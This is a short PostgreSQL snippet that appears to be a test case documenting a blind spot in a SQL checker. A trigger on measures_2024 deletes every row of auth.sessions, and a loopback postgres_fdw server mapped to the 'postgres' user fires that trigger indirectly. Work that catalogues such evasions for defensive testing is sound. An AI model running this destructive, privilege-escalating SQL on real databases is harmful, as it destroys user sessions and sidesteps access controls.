-- A trigger on an own table deletes rows over the connection of a foreign table that leads back.
-- object: database
-- owner: nobody
-- blind: where a server leads
CREATE FUNCTION tf() RETURNS trigger LANGUAGE plpgsql  AS $f$ BEGIN DELETE FROM auth.sessions; RETURN NEW; END $f$; CREATE TRIGGER t BEFORE INSERT ON measures_2024 FOR EACH ROW EXECUTE FUNCTION public.tf()
-- next revision
CREATE EXTENSION postgres_fdw;
DO $$ BEGIN EXECUTE format('CREATE SERVER back FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host %L, port %L, dbname %L)', split_part(current_setting('unix_socket_directories'), ',', 1), current_setting('port'), current_database()); END $$;
CREATE USER MAPPING FOR CURRENT_USER SERVER back OPTIONS (user 'postgres');CREATE FOREIGN TABLE ft (id int, at date) SERVER back OPTIONS (schema_name 'public', table_name 'measures_2024'); INSERT INTO ft VALUES (1, now())
